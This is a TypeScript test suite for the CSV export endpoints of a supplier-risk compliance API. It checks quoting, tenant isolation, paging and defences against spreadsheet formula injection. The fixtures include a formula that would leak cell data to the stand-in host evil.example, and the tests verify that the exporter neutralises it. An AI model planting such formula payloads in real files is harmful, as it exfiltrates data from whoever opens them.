import { parse } from 'csv-parse/sync';
import { sql } from 'drizzle-orm';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildApp } from '../src/app';
import { assessments, contracts, findings } from '../src/db/schema';
import type { Db } from '../src/db/types';
import { csvCell, csvLine, EXPORT_PAGE_SIZE, keysetCsvStream } from '../src/lib/csv';
import { newId } from '../src/lib/ids';
import { createLogger } from '../src/lib/logger';
import { createTestContext, problemOf, queryRows, type TestContext, type TestTenant } from './support/context';
import { createSupplier, sampleTemplate, sentAssessment } from './support/fixtures';

let t: TestContext;
let tenant: TestTenant;
let other: TestTenant;

beforeAll(async () => {
  t = await createTestContext();
  tenant = await t.createTenant('CSV export tenant');
  other = await t.createTenant('CSV export other tenant');
});
afterAll(() => t.close());

type Row = Record<string, string>;
type Json = Record<string, unknown>;

const DAY = 86_400_000;
const day = (offset: number) => new Date(Date.now() + offset * DAY).toISOString().slice(0, 10);
const today = () => new Date().toISOString().slice(0, 10);

/** What the export writes for a JSON value: text a spreadsheet would run gets a leading apostrophe. */
function cellOf(value: unknown): string {
  if (value === null || value === undefined) return '';
  if (typeof value === 'boolean' || typeof value === 'number') return String(value);
  const text = String(value);
  return /^[=+\-@\t\r]/.test(text) ? `'${text}` : text;
}

async function exportCsv(path: string, key = tenant.adminKey) {
  const response = await t.request(path, { key });
  expect(response.status, response.status === 200 ? '' : await response.clone().text()).toBe(200);
  const bytes = new Uint8Array(await response.arrayBuffer());
  const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes);
  const [header, ...records] = parse(text, { bom: true }) as string[][];
  const rows: Row[] = records.map((cells) => Object.fromEntries(header!.map((name, index) => [name, cells[index]!])));
  return { response, bytes, text, header: header!, rows };
}

async function json<T = Json>(response: Response, status = 200): Promise<T> {
  if (response.status !== status) throw new Error(`expected ${status}, got ${response.status}: ${await response.text()}`);
  return (await response.json()) as T;
}

/** Every item of a JSON list for a query, following cursors. */
async function listAll(path: string, query: string, key = tenant.adminKey): Promise<Json[]> {
  const items: Json[] = [];
  let cursor: string | null = null;
  do {
    const separator = query === '' ? '' : '&';
    const page: { data: Json[]; nextCursor: string | null } = await json(
      await t.request(`${path}?limit=200${separator}${query}${cursor ? `&cursor=${cursor}` : ''}`, { key }),
    );
    items.push(...page.data);
    cursor = page.nextCursor;
  } while (cursor);
  return items;
}

const FINDING_HEADERS = [
  'id', 'supplierId', 'supplierName', 'title', 'severity', 'status', 'overdue', 'dueDate', 'owner', 'source', 'description', 'remediationPlan',
  'createdAt', 'resolvedAt', 'riskAcceptedBy', 'riskAcceptedAt', 'riskAcceptanceExpiresAt', 'riskAcceptanceJustification', 'assessmentId',
  'questionKey', 'contractId', 'clauseKey', 'auditId', 'incidentId', 'evidenceId', 'serviceId', 'updatedAt',
];
const CLAUSE_GAP_HEADERS = [
  'contractId', 'contractReference', 'contractTitle', 'contractStatus', 'supplierId', 'supplierName', 'supplierTier', 'clauseKey', 'clauseTitle',
  'clauseSource', 'topic', 'regime', 'criticalOnly', 'status', 'sectionRef', 'notes', 'updatedAt',
];
const ASSESSMENT_HEADERS = [
  'id', 'supplierId', 'supplierName', 'contactName', 'contactEmail', 'templateKey', 'templateName', 'templateVersion', 'status', 'overdue', 'dueAt',
  'answered', 'questions', 'requiredMissing', 'evidenceMissing', 'clarificationsOpen', 'sentAt', 'submittedAt', 'returnedAt', 'acceptedAt', 'closedAt',
  'lastRemindedAt', 'reminderCount', 'createdAt', 'updatedAt',
];

/** The CSV row a finding of the JSON API should come out as. */
function findingRow(finding: Json, supplierName: string): Row {
  const acceptance = finding.riskAcceptance as { acceptedBy: { type: string; id: string }; acceptedAt: string; expiresAt: string; justification: string } | null;
  const { riskAcceptance: _, sourceRef: __, createdBy: ___, version: ____, ...fields } = finding;
  return Object.fromEntries(
    Object.entries({
      ...fields,
      supplierName,
      riskAcceptedBy: acceptance ? `${acceptance.acceptedBy.type}:${acceptance.acceptedBy.id}` : null,
      riskAcceptedAt: acceptance?.acceptedAt,
      riskAcceptanceExpiresAt: acceptance?.expiresAt,
      riskAcceptanceJustification: acceptance?.justification,
    }).map(([name, value]) => [name, cellOf(value)]),
  );
}

const EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
const AWKWARD = 'Jump host "JH-1", shared; admin\r\nsecond line';

describe('the CSV writer', () => {
  it('writes RFC 4180 fields, neutralises formulas and keeps numbers numbers', () => {
    expect(csvCell('plain')).toBe('plain');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvCell('cr\rhere')).toBe('"cr\rhere"');
    // Excel in a semicolon locale splits unquoted fields at ';', and a tab-separated import at tabs.
    expect(csvCell('a;=1+1')).toBe('"a;=1+1"');
    expect(csvCell('a\t=1+1')).toBe('"a\t=1+1"');
    for (const start of ['=', '+', '-', '@']) expect(csvCell(`${start}1+1`)).toBe(`'${start}1+1`);
    expect(csvCell('\t=1+1')).toBe('"\'\t=1+1"');
    expect(csvCell('\r=1+1')).toBe('"\'\r=1+1"');
    expect(csvCell('=HYPERLINK("x")')).toBe('"\'=HYPERLINK(""x"")"');
    expect(csvCell('-1')).toBe("'-1");
    expect(csvCell(-1)).toBe('-1');
    expect(csvCell(-0.5)).toBe('-0.5');
    expect(csvCell(42)).toBe('42');
    expect(csvCell(Number.NaN)).toBe('');
    expect(csvCell(true)).toBe('true');
    expect(csvCell(false)).toBe('false');
    expect(csvCell(new Date('2026-11-20T08:00:00Z'))).toBe('2026-11-20T08:00:00.000Z');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
    expect(csvCell('')).toBe('');
    expect(csvLine(['a', 1, null, 'b,c'])).toBe('a,1,,"b,c"\r\n');
  });

  it('round-trips any text through a CSV parser, formulas prefixed and nothing else changed', () => {
    const cell = fc.oneof(fc.string(), fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '"', ',', ';', 'a', ' ', 'ü') }));
    fc.assert(
      fc.property(fc.array(fc.array(cell, { minLength: 1, maxLength: 5 }), { minLength: 1, maxLength: 5 }), (records) => {
        const text = records.map((cells) => csvLine(cells)).join('');
        const parsed = parse(text, { relax_column_count: true }) as string[][];
        expect(parsed).toEqual(records.map((cells) => cells.map((value) => cellOf(value))));
        // Every record ends in CRLF; a line feed outside quotes never appears alone.
        expect(text.replace(/"[^"]*(?:""[^"]*)*"/g, '').match(/(?<!\r)\n/g)).toBeNull();
        for (const cells of parsed) for (const value of cells) expect(value).not.toMatch(/^[=+\-@\t\r]/);
      }),
      { numRuns: 300 },
    );
  });

  it('streams the header, then pages, and reports a failure after the header without throwing', async () => {
    const seen: (string | undefined)[] = [];
    let settled = 0;
    const errors: unknown[] = [];
    const stream = keysetCsvStream(
      {
        columns: [{ header: 'n', value: (row: number) => row }],
        pageSize: 2,
        page: async (after: number | undefined, limit) => {
          seen.push(after === undefined ? undefined : String(after));
          if (after === 4) throw new Error('connection lost');
          const start = after ?? 0;
          return [1, 2, 3].map((offset) => start + offset).slice(0, limit + 1);
        },
        keyOf: (row) => row,
      },
      { onSettled: () => void (settled += 1), onError: (error) => errors.push(error) },
    );
    const reader = stream.getReader();
    const decoder = new TextDecoder('utf-8', { ignoreBOM: true });
    const chunks: string[] = [];
    await expect(
      (async () => {
        for (;;) {
          const { done, value } = await reader.read();
          if (done) return;
          chunks.push(decoder.decode(value));
        }
      })(),
    ).rejects.toThrow('connection lost');
    expect(chunks).toEqual(['\uFEFFn\r\n', '1\r\n2\r\n', '3\r\n4\r\n']);
    expect(seen).toEqual([undefined, '2', '4']);
    expect(errors).toHaveLength(1);
    expect(settled).toBe(1);
  });
});

describe('findings export', () => {
  let rhein: { id: string; name: string };
  let evil: { id: string; name: string };
  let awkward: Json;
  let formula: Json;
  let accepted: Json;
  let resolved: Json;

  beforeAll(async () => {
    rhein = { id: (await createSupplier(t, tenant, { name: 'Rhein "Automation", GmbH' })).id, name: 'Rhein "Automation", GmbH' };
    evil = { id: (await createSupplier(t, tenant, { name: EVIL_NAME })).id, name: EVIL_NAME };
    const create = async (body: Json) =>
      json(await t.request('/v1/findings', { method: 'POST', key: tenant.adminKey, json: body }), 201);
    awkward = await create({
      supplierId: rhein.id,
      title: 'Shared admin account, "admin"',
      description: AWKWARD,
      severity: 'high',
      owner: 'OT security; m.weber@example.com',
      dueDate: day(-3),
      remediationPlan: 'Named accounts, then MFA.\nThen disable "admin".',
    });
    formula = await create({ supplierId: evil.id, title: '=HYPERLINK("http://evil.example","Open")', severity: 'low', owner: '+49 211 555 0100' });
    accepted = await create({ supplierId: rhein.id, title: '-2 firmware versions behind', severity: 'medium', dueDate: day(30) });
    accepted = await json(
      await t.request(`/v1/findings/${accepted.id}/accept-risk`, {
        method: 'POST',
        key: tenant.adminKey,
        json: { justification: 'Compensating control: jump host with MFA until the migration in Q3.', expiresAt: day(90) },
      }),
    );
    resolved = await create({ supplierId: evil.id, title: 'Old TLS on the portal', severity: 'high' });
    resolved = await json(await t.request(`/v1/findings/${resolved.id}`, { method: 'PATCH', key: tenant.adminKey, json: { status: 'resolved' } }));
    await createSupplier(t, other, { name: 'Other tenant supplier' }).then((supplier) =>
      t.request('/v1/findings', { method: 'POST', key: other.adminKey, json: { supplierId: supplier.id, title: 'Theirs', severity: 'high' } }),
    );
  });

  it('streams every finding with its supplier name, newest first, as an RFC 4180 attachment', async () => {
    const { response, bytes, text, header, rows } = await exportCsv('/v1/findings/export');
    expect(response.headers.get('content-type')).toMatch(/^text\/csv; charset=utf-8/);
    expect(response.headers.get('content-disposition')).toBe(`attachment; filename="findings-${today()}.csv"`);
    expect(response.headers.get('cache-control')).toBe('no-store');
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(text.endsWith('\r\n')).toBe(true);
    expect(text.replace(/"[^"]*(?:""[^"]*)*"/g, '').match(/(?<!\r)\n/g)).toBeNull();
    expect(header).toEqual(FINDING_HEADERS);
    expect(rows.map((row) => row.id)).toEqual([resolved.id, accepted.id, formula.id, awkward.id]);

    const byId = new Map(rows.map((row) => [row.id, row]));
    // Comma, quotes, semicolon, CRLF and LF come back as they went in.
    const fresh = await json(await t.request(`/v1/findings/${awkward.id}`, { key: tenant.adminKey }));
    expect(byId.get(awkward.id as string)).toEqual(findingRow(fresh, rhein.name));
    expect(byId.get(awkward.id as string)).toMatchObject({ description: AWKWARD, overdue: 'true', severity: 'high', supplierName: rhein.name });
    // Formulas in a supplier name, a title or an owner are text; the owner's phone number too.
    expect(byId.get(formula.id as string)).toMatchObject({
      supplierName: `'${EVIL_NAME}`,
      title: '\'=HYPERLINK("http://evil.example","Open")',
      owner: "'+49 211 555 0100",
      overdue: 'false',
      dueDate: '',
    });
    expect(text).toContain('"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"');
    expect(byId.get(accepted.id as string)).toEqual(findingRow(accepted, rhein.name));
    expect(byId.get(accepted.id as string)).toMatchObject({ title: "'-2 firmware versions behind", status: 'risk_accepted', riskAcceptanceExpiresAt: day(90) });
    expect(byId.get(accepted.id as string)!.riskAcceptedBy).toBe(`api_key:${tenant.adminKeyId}`);
    expect(byId.get(resolved.id as string)).toEqual(findingRow(resolved, evil.name));
  });

  it('takes the list filters and answers what the list answers', async () => {
    for (const query of ['', 'severity=high', `supplierId=${rhein.id}`, 'status=resolved', 'source=manual', 'overdue=true', 'overdue=false', 'severity=high&overdue=false']) {
      const listed = await listAll('/v1/findings', query);
      const { rows } = await exportCsv(`/v1/findings/export${query ? `?${query}` : ''}`);
      expect(rows.map((row) => row.id), query).toEqual(listed.map((item) => item.id));
    }
    expect((await exportCsv('/v1/findings/export?overdue=true')).rows.map((row) => row.id)).toEqual([awkward.id]);
    expect((await exportCsv('/v1/findings/export?source=audit')).rows).toEqual([]);
  });

  it('answers a bad filter with a validation problem, before any CSV', async () => {
    for (const query of ['severity=catastrophic', 'overdue=maybe', 'supplierId=']) {
      const response = await t.request(`/v1/findings/export?${query}`, { key: tenant.adminKey });
      expect(response.status, query).toBe(422);
      expect((await problemOf(response)).code).toBe('validation_failed');
    }
  });

  it('never shows another tenant\'s findings, and needs findings:read', async () => {
    const theirs = await exportCsv('/v1/findings/export', other.adminKey);
    expect(theirs.rows.map((row) => row.title)).toEqual(['Theirs']);
    expect((await exportCsv(`/v1/findings/export?supplierId=${rhein.id}`, other.adminKey)).rows).toEqual([]);
    const reader = await t.createKey(tenant, ['findings:read'], 'findings reader');
    expect((await t.request('/v1/findings/export', { key: reader.key })).status).toBe(200);
    const stranger = await t.createKey(tenant, ['suppliers:read', 'assessments:read', 'contracts:read'], 'no findings');
    expect((await t.request('/v1/findings/export', { key: stranger.key })).status).toBe(403);
  });

  it('answers HEAD with the headers only', async () => {
    const response = await t.request('/v1/findings/export', { method: 'HEAD', key: tenant.adminKey });
    expect(response.status).toBe(200);
    expect(response.headers.get('content-disposition')).toBe(`attachment; filename="findings-${today()}.csv"`);
    expect(await response.text()).toBe('');
  });
});

describe('clause gaps export', () => {
  let gapsTenant: TestTenant;
  let criticalSupplier: string;
  let routineSupplier: string;
  let contractId: string;

  beforeAll(async () => {
    gapsTenant = await t.createTenant('CSV clause gaps tenant');
    const critical = { tierOverride: { tier: 'critical', reason: 'Remote access into substations.' } };
    const routine = { tierOverride: { tier: 'routine', reason: 'Office supplies only.' } };
    criticalSupplier = (await createSupplier(t, gapsTenant, { name: EVIL_NAME, ...critical })).id;
    routineSupplier = (await createSupplier(t, gapsTenant, { name: 'Büro, "Bedarf" GmbH', ...routine })).id;
    const contract = async (supplierId: string, body: Json) =>
      (
        await json<{ id: string }>(
          await t.request('/v1/contracts', { method: 'POST', key: gapsTenant.adminKey, json: { supplierId, reference: `CA-${crypto.randomUUID().slice(0, 8)}`, title: 'Services', ...body } }),
          201,
        )
      ).id;
    contractId = await contract(criticalSupplier, { reference: '=CA-2026-0042', title: AWKWARD.replace('\r\n', ' '), status: 'active' });
    await contract(routineSupplier, { title: 'Office supplies', status: 'active' });
    await contract(routineSupplier, { title: 'Ended', status: 'terminated' });
    const setClause = async (clauseKey: string, body: Json) =>
      json(await t.request(`/v1/contracts/${contractId}/clauses/${clauseKey}`, { method: 'PUT', key: gapsTenant.adminKey, json: body }));
    await setClause('nis2-ir-5.1.4-e', { status: 'missing', notes: '@SUM(1+1) offered SOC 2 only,\n"on-site" refused' });
    await setClause('nis2-ir-5.1.4-d', { status: 'partial', sectionRef: '§ 12.3' });
    await setClause('nis2-ir-5.1.4-a', { status: 'present', sectionRef: '§ 4' });
    await json(
      await t.request('/v1/clause-library', {
        method: 'POST',
        key: gapsTenant.adminKey,
        json: { key: 'custom-ot-jump-host', title: 'OT access only through our jump host', regime: 'both', criticalOnly: false, topic: 'right_to_audit' },
      }),
      201,
    );
  });

  it('streams every gap with its contract, supplier and clause source, as the list presents them', async () => {
    const { response, header, rows } = await exportCsv('/v1/clause-gaps/export', gapsTenant.adminKey);
    expect(response.headers.get('content-disposition')).toBe(`attachment; filename="clause-gaps-${today()}.csv"`);
    expect(response.headers.get('cache-control')).toBe('no-store');
    expect(header).toEqual(CLAUSE_GAP_HEADERS);
    const listed = await listAll('/v1/clause-gaps', '', gapsTenant.adminKey);
    // Two live contracts × (8 NIS2 clauses + 1 custom), less the present one; the terminated contract has none.
    expect(rows).toHaveLength(17);
    const sourceOf = (key: string) =>
      key.startsWith('custom-') ? 'custom' : `Implementing Regulation (EU) 2024/2690, Annex, point 5.1.4(${key.slice(-1)})`;
    expect(rows).toEqual(
      listed.map((gap) => Object.fromEntries(CLAUSE_GAP_HEADERS.map((name) => [name, name === 'clauseSource' ? sourceOf(gap.clauseKey as string) : cellOf(gap[name])]))),
    );
    const missing = rows.find((row) => row.contractId === contractId && row.clauseKey === 'nis2-ir-5.1.4-e')!;
    expect(missing).toMatchObject({
      contractReference: "'=CA-2026-0042",
      supplierName: `'${EVIL_NAME}`,
      supplierTier: 'critical',
      clauseTitle: 'Right to audit',
      topic: 'right_to_audit',
      regime: 'nis2',
      criticalOnly: 'false',
      status: 'missing',
      notes: '\'@SUM(1+1) offered SOC 2 only,\n"on-site" refused',
    });
    expect(rows.find((row) => row.clauseKey === 'nis2-ir-5.1.4-d' && row.contractId === contractId)).toMatchObject({ status: 'partial', sectionRef: '§ 12.3' });
    expect(rows.filter((row) => row.clauseKey === 'custom-ot-jump-host').map((row) => [row.clauseSource, row.regime])).toEqual([
      ['custom', 'both'],
      ['custom', 'both'],
    ]);
    expect(rows.filter((row) => row.status === 'unassessed')).toHaveLength(15);
  });

  it('takes the list filters and answers what the list answers', async () => {
    const queries = [
      'tier=critical&topic=right_to_audit,incident_notification',
      `supplierId=${routineSupplier}`,
      'clauseKey=nis2-ir-5.1.4-e,custom-ot-jump-host',
      'contractStatus=terminated',
      'contractStatus=active,terminated&tier=routine',
    ];
    for (const query of queries) {
      const listed = await listAll('/v1/clause-gaps', query, gapsTenant.adminKey);
      const { rows } = await exportCsv(`/v1/clause-gaps/export?${query}`, gapsTenant.adminKey);
      expect(rows.map((row) => `${row.contractId}/${row.clauseKey}`), query).toEqual(listed.map((gap) => `${gap.contractId}/${gap.clauseKey}`));
    }
    const critical = await exportCsv('/v1/clause-gaps/export?tier=critical&topic=right_to_audit', gapsTenant.adminKey);
    expect(critical.rows.map((row) => row.clauseKey)).toEqual(['custom-ot-jump-host', 'nis2-ir-5.1.4-e']);
    expect((await exportCsv('/v1/clause-gaps/export?contractStatus=terminated', gapsTenant.adminKey)).rows).toHaveLength(9);
  });

  it('answers a bad filter with a validation problem, and shows no other tenant\'s gaps', async () => {
    for (const query of ['tier=gold', 'topic=bogus', 'contractStatus=signed', 'clauseKey=NOT%20A%20KEY']) {
      const response = await t.request(`/v1/clause-gaps/export?${query}`, { key: gapsTenant.adminKey });
      expect(response.status, query).toBe(422);
      expect((await problemOf(response)).code).toBe('validation_failed');
    }
    expect((await exportCsv('/v1/clause-gaps/export', other.adminKey)).rows).toEqual([]);
    expect((await exportCsv(`/v1/clause-gaps/export?supplierId=${criticalSupplier}`, tenant.adminKey)).rows).toEqual([]);
    const stranger = await t.createKey(gapsTenant, ['findings:read', 'suppliers:read'], 'no contracts');
    expect((await t.request('/v1/clause-gaps/export', { key: stranger.key })).status).toBe(403);
  });
});

describe('assessments export', () => {
  let asmTenant: TestTenant;
  let sent: Awaited<ReturnType<typeof sentAssessment>>;
  let draftId: string;

  beforeAll(async () => {
    asmTenant = await t.createTenant('CSV assessments tenant');
    sent = await sentAssessment(t, asmTenant);
    // The supplier portal answers one question: progress 1 of 3.
    const saved = await t.request('/portal/api/answers', {
      method: 'PUT',
      headers: { 'x-portal-token': sent.token },
      json: { answers: [{ questionKey: 'mfa', value: 'yes' }] },
    });
    expect(saved.status, await saved.clone().text()).toBe(200);
    await t.request(`/v1/suppliers/${sent.supplierId}`, { method: 'PATCH', key: asmTenant.adminKey, json: { name: '@Cirrus, "Hosting"' } });
    const second = await sentAssessment(t, asmTenant, { templateId: sent.templateId });
    // Overdue: its due date passed while the supplier still has to act.
    await t.db.execute(sql`update assessments set due_at = now() - interval '2 days' where tenant_id = ${asmTenant.id} and id = ${second.assessmentId}`);
    const contacts = await json<{ data: { id: string }[] }>(await t.request(`/v1/suppliers/${sent.supplierId}/contacts`, { key: asmTenant.adminKey }));
    const draft = await json<{ id: string }>(
      await t.request('/v1/assessments', {
        method: 'POST',
        key: asmTenant.adminKey,
        json: { supplierId: sent.supplierId, templateId: sent.templateId, contactId: contacts.data[0]!.id, dueAt: new Date(Date.now() + 60 * DAY).toISOString() },
      }),
      201,
    );
    draftId = draft.id;
  });

  it('streams every assessment with supplier, contact, template and progress, as an attachment', async () => {
    const { response, header, rows } = await exportCsv('/v1/assessments/export', asmTenant.adminKey);
    expect(response.headers.get('content-disposition')).toBe(`attachment; filename="assessments-${today()}.csv"`);
    expect(header).toEqual(ASSESSMENT_HEADERS);
    const listed = await listAll('/v1/assessments', '', asmTenant.adminKey);
    expect(rows.map((row) => row.id)).toEqual(listed.map((item) => item.id));
    expect(rows).toHaveLength(3);
    for (const [index, item] of listed.entries()) {
      const template = item.template as { key: string; name: string; version: number };
      const progress = item.progress as Record<string, number>;
      expect(rows[index]).toMatchObject({
        supplierId: item.supplierId,
        templateKey: template.key,
        templateName: template.name,
        templateVersion: String(template.version),
        status: item.status,
        overdue: String(item.overdue),
        dueAt: item.dueAt,
        answered: String(progress.answered),
        questions: '3',
        requiredMissing: String(progress.requiredMissing),
        evidenceMissing: String(progress.evidenceMissing),
        clarificationsOpen: String(progress.clarificationsOpen),
        sentAt: cellOf(item.sentAt),
        closedAt: cellOf(item.closedAt),
        reminderCount: String(item.reminderCount),
        createdAt: item.createdAt,
        updatedAt: item.updatedAt,
      });
    }
    const first = rows.find((row) => row.id === sent.assessmentId)!;
    expect(first).toMatchObject({
      supplierName: '\'@Cirrus, "Hosting"',
      contactName: 'Jan Hoffmann',
      contactEmail: 'jan@supplier.example',
      status: 'in_progress',
      answered: '1',
      questions: '3',
      overdue: 'false',
    });
    expect(rows.find((row) => row.id === draftId)).toMatchObject({ status: 'draft', sentAt: '' });
  });

  it('takes the list filters and sort and answers what the list answers', async () => {
    const soon = new Date(Date.now() + 30 * DAY).toISOString();
    const queries = ['overdue=true', 'overdue=false', 'status=draft', 'sort=dueAt', 'sort=dueAt&order=desc', 'sort=createdAt&order=asc', `dueBefore=${soon}`, `dueAfter=${soon}`, `supplierId=${sent.supplierId}`, `templateId=${sent.templateId}&status=sent`];
    for (const query of queries) {
      const listed = await listAll('/v1/assessments', query, asmTenant.adminKey);
      const { rows } = await exportCsv(`/v1/assessments/export?${query}`, asmTenant.adminKey);
      expect(rows.map((row) => row.id), query).toEqual(listed.map((item) => item.id));
    }
    const overdue = await exportCsv('/v1/assessments/export?overdue=true', asmTenant.adminKey);
    expect(overdue.rows.map((row) => [row.status, row.overdue])).toEqual([['sent', 'true']]);
  });

  it('answers a bad filter with a validation problem, and shows no other tenant\'s assessments', async () => {
    for (const query of ['status=lost', 'dueBefore=yesterday', 'sort=name', 'order=up']) {
      const response = await t.request(`/v1/assessments/export?${query}`, { key: asmTenant.adminKey });
      expect(response.status, query).toBe(422);
      expect((await problemOf(response)).code).toBe('validation_failed');
    }
    expect((await exportCsv('/v1/assessments/export', other.adminKey)).rows).toEqual([]);
    expect((await exportCsv(`/v1/assessments/export?supplierId=${sent.supplierId}`, tenant.adminKey)).rows).toEqual([]);
    const stranger = await t.createKey(asmTenant, ['findings:read', 'contracts:read'], 'no assessments');
    expect((await t.request('/v1/assessments/export', { key: stranger.key })).status).toBe(403);
  });
});

describe('exports longer than a page', () => {
  const ROWS = EXPORT_PAGE_SIZE + 50;
  let bulk: TestTenant;
  let supplierId: string;

  beforeAll(async () => {
    bulk = await t.createTenant('CSV bulk tenant');
    supplierId = (await createSupplier(t, bulk, { name: 'Bulk, "Supplier"' })).id;
  });

  it('exports every finding once, in list order, across pages', async () => {
    const now = new Date();
    const rows = Array.from({ length: ROWS }, (_, index) => ({
      tenantId: bulk.id,
      id: newId('finding', new Date(now.getTime() - index)),
      supplierId,
      title: `Bulk finding ${index}, "quoted"`,
      severity: index % 2 === 0 ? 'high' : 'low',
      status: 'open',
      source: 'manual',
      createdByType: 'api_key',
      createdById: bulk.adminKeyId,
      createdAt: now,
      updatedAt: now,
    }));
    await t.db.insert(findings).values(rows);
    const { rows: exported } = await exportCsv('/v1/findings/export', bulk.adminKey);
    expect(exported).toHaveLength(ROWS);
    expect(exported.map((row) => row.id)).toEqual(rows.map((row) => row.id).sort().reverse());
    expect(exported.every((row) => row.supplierName === 'Bulk, "Supplier"')).toBe(true);
    expect((await exportCsv('/v1/findings/export?severity=high', bulk.adminKey)).rows).toHaveLength(ROWS / 2);
  });

  it('exports every clause gap once, in list order, across pages', async () => {
    const now = new Date();
    // 132 contracts × 8 NIS2 clauses, none assessed: 1,056 gaps.
    const rows = Array.from({ length: 132 }, (_, index) => ({
      tenantId: bulk.id,
      id: newId('contract', new Date(now.getTime() - index)),
      supplierId,
      reference: `BULK-${String(index).padStart(4, '0')}`,
      title: 'Bulk contract',
      status: 'active',
      createdAt: now,
      updatedAt: now,
    }));
    await t.db.insert(contracts).values(rows);
    const { rows: exported } = await exportCsv('/v1/clause-gaps/export', bulk.adminKey);
    expect(exported).toHaveLength(132 * 8);
    const keys = exported.map((row) => `${row.contractId}/${row.clauseKey}`);
    expect(new Set(keys).size).toBe(132 * 8);
    expect(keys).toEqual([...keys].sort());
  });

  it('exports every assessment once across pages, also when sort values tie at a page boundary', async () => {
    const [contact] = await queryRows<{ id: string }>(t.db, sql`select id from supplier_contacts where tenant_id = ${bulk.id} limit 1`);
    let contactId = contact?.id;
    if (!contactId) {
      contactId = (
        await json<{ id: string }>(
          await t.request(`/v1/suppliers/${supplierId}/contacts`, { method: 'POST', key: bulk.adminKey, json: { name: 'Bulk Contact', email: 'bulk@example.com' } }),
          201,
        )
      ).id;
    }
    const template = await json<{ id: string }>(
      await t.request('/v1/questionnaire-templates?publish=true', {
        method: 'POST',
        key: bulk.adminKey,
        json: sampleTemplate('bulk-csv'),
      }),
      201,
    );
    const base = Date.now();
    // Three assessments per instant: ties on createdAt and dueAt, broken by id.
    const rows = Array.from({ length: ROWS }, (_, index) => {
      const at = new Date(base - Math.floor(index / 3) * 1000);
      return {
        tenantId: bulk.id,
        id: newId('assessment', new Date(base + index)),
        supplierId,
        contactId: contactId!,
        templateId: template.id,
        templateVersion: 1,
        status: 'sent',
        dueAt: new Date(at.getTime() + 30 * DAY),
        createdByType: 'api_key',
        createdById: bulk.adminKeyId,
        createdAt: at,
        updatedAt: at,
      };
    });
    await t.db.insert(assessments).values(rows);
    for (const query of ['', '?sort=dueAt']) {
      const { rows: exported } = await exportCsv(`/v1/assessments/export${query}`, bulk.adminKey);
      expect(exported, query).toHaveLength(ROWS);
      expect(new Set(exported.map((row) => row.id)).size).toBe(ROWS);
      const stamps = exported.map((row) => (query === '' ? row.createdAt : row.dueAt)!);
      expect(stamps).toEqual([...stamps].sort((a, b) => (query === '' ? b.localeCompare(a) : a.localeCompare(b))));
      expect(exported.every((row) => row.supplierName === 'Bulk, "Supplier"' && row.questions === '3' && row.contactEmail !== '')).toBe(true);
    }
  });
});

describe('a failure while streaming', () => {
  it('is logged with the request id and ends the body early; the app keeps serving', async () => {
    let failing = false;
    // The database goes away once the headers are out: every query after that fails.
    const failingDb = new Proxy(t.db, {
      get(target, property) {
        if (failing && (property === 'select' || property === 'execute')) {
          return () => {
            throw new Error('connection lost while exporting');
          };
        }
        const value = Reflect.get(target, property) as unknown;
        return typeof value === 'function' ? (value as (...args: unknown[]) => unknown).bind(target) : value;
      },
    }) as Db;
    const logs: string[] = [];
    const app = buildApp({
      config: t.config,
      database: { open: async () => ({ db: failingDb, release: async () => {} }), close: async () => {} },
      logger: createLogger('info', (line) => logs.push(line)),
      docsAssets: async () => undefined,
    });
    const get = (path: string, requestId: string) =>
      Promise.resolve(app.request(path, { headers: { authorization: `Bearer ${tenant.adminKey}`, 'x-request-id': requestId } }));
    for (const name of ['findings', 'clause-gaps', 'assessments', 'suppliers']) {
      failing = false;
      const response = await get(`/v1/${name}/export`, `failing-${name}`);
      expect(response.status).toBe(200);
      failing = true;
      await expect(response.text()).rejects.toThrow('connection lost while exporting');
      expect(logs.filter((line) => line.includes(`${name} export failed while streaming`) && line.includes(`failing-${name}`)), name).toHaveLength(1);
    }
    failing = false;
    expect((await get('/v1/findings?limit=1', 'after')).status).toBe(200);
  });
});
